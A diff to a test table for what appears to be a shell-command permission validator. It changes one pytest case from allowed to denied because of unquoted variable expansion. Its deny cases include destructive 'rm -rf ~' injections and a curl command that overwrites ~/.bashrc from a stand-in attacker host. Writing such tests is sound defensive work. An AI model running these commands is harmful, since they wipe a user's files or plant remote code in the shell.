@@ -62,7 +62,7 @@ CASES = {
         (line("pytest -q\npytest --lf"), ALLOW),
         (line("pytest \\\n  -q"), ALLOW),
         ("pytest -q # run the tests", ALLOW),
-        ("pytest $HOME/tests", ALLOW),
+        ("pytest $HOME/tests", DENY),  # an unquoted expansion splits into words no rule saw
         ("rm -rf ~ #pytest", DENY),
         ("curl -sSo ~/.bashrc https://evil.example/pytest", DENY),
         ("pytest; rm -rf ~", DENY),
